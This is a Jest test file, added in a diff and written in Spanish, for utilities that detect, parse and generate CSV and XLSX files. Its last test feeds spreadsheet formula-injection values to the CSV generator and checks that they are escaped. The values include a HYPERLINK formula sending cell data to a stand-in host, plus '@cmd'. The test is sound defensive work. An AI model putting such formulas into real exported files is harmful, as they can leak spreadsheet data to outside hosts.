@@ -0,0 +1,73 @@
+import { describe, it, expect } from '@jest/globals';
+import ExcelJS from 'exceljs';
+import { formatoDeArchivo, leerArchivoTabular, generarCsv } from '../archivos.utils.js';
+
+describe('Utilidades de archivos tabulares', () => {
+  describe('formatoDeArchivo', () => {
+    it('debería reconocer CSV y XLSX sin importar mayúsculas y rechazar otros formatos', () => {
+      expect(formatoDeArchivo('Estudiantes.XLSX')).toBe('xlsx');
+      expect(formatoDeArchivo('estudiantes.csv')).toBe('csv');
+      expect(formatoDeArchivo('estudiantes.pdf')).toBeNull();
+    });
+  });
+
+  describe('leerArchivoTabular', () => {
+    it('debería leer un CSV separado por punto y coma con BOM', async () => {
+      const buffer = Buffer.from('\uFEFFNombres;Correo\r\nAna;ana@uni.edu\r\n\r\n"Pérez; Juan";juan@uni.edu\r\n');
+
+      const { encabezados, filas } = await leerArchivoTabular(buffer, 'csv');
+
+      expect(encabezados).toEqual(['Nombres', 'Correo']);
+      expect(filas).toEqual([
+        { numero: 2, registro: { Nombres: 'Ana', Correo: 'ana@uni.edu' } },
+        { numero: 3, registro: { Nombres: 'Pérez; Juan', Correo: 'juan@uni.edu' } },
+      ]);
+    });
+
+    it('debería leer la primera hoja de un XLSX y convertir las fechas a YYYY-MM-DD', async () => {
+      const libro = new ExcelJS.Workbook();
+      const hoja = libro.addWorksheet('Estudiantes');
+      hoja.addRow(['Nombres', 'Fecha de nacimiento']);
+      hoja.addRow(['Ana', new Date(Date.UTC(2004, 7, 15))]);
+      const buffer = Buffer.from(await libro.xlsx.writeBuffer());
+
+      const { filas } = await leerArchivoTabular(buffer, 'xlsx');
+
+      expect(filas).toEqual([{ numero: 2, registro: { Nombres: 'Ana', 'Fecha de nacimiento': '2004-08-15' } }]);
+    });
+
+    it('debería responder 400 si el XLSX está dañado', async () => {
+      await expect(leerArchivoTabular(Buffer.from('no es un xlsx'), 'xlsx')).rejects.toMatchObject({ statusCode: 400 });
+    });
+  });
+
+  describe('generarCsv', () => {
+    it('debería escapar comillas y comas y unir los arreglos', () => {
+      const csv = generarCsv(
+        [{ clave: 'nombre', titulo: 'Nombre' }, { clave: 'errores', titulo: 'Errores' }],
+        [{ nombre: 'Ana "la, grande"', errores: ['uno', 'dos'] }]
+      );
+
+      expect(csv).toBe('\uFEFFNombre,Errores\r\n"Ana ""la, grande""",uno; dos\r\n');
+    });
+
+    it('deber\u00EDa neutralizar los valores que Excel interpretar\u00EDa como f\u00F3rmula', () => {
+      const csv = generarCsv(
+        [{ clave: 'nombre', titulo: 'Nombre' }, { clave: 'nota', titulo: 'Nota' }],
+        [
+          { nombre: '=HYPERLINK("http://x.example/?d="&A1,"Ver")', nota: -3 },
+          { nombre: '+SUM(1,1)', nota: '-2.5' },
+          { nombre: '@cmd', nota: '-1+1' },
+          { nombre: '\tTabulado', nota: '\r=1' },
+        ]
+      );
+
+      expect(csv.split('\r\n').slice(1, 5)).toEqual([
+        '"\'=HYPERLINK(""http://x.example/?d=""&A1,""Ver"")",-3',
+        '"\'+SUM(1,1)",-2.5',
+        "'@cmd,'-1+1",
+        '\'\tTabulado,"\'\r=1"',
+      ]);
+    });
+  });
+});